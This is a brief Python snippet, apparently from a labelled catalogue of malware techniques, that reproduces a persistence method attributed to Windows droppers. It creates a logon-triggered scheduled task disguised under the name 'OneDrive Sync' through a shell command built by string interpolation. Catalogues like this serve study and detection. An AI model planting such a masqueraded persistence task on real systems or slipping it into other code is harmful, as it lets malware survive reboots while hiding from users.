# technique: scheduled task created with schtasks
# class: persistence
# source: Phylum, "EsqueleSquad" and related Windows droppers
# declares: subprocess
import subprocess


def task(path):
    subprocess.call(f'schtasks /create /sc onlogon /tn "OneDrive Sync" /tr "{path}" /f', shell=True)
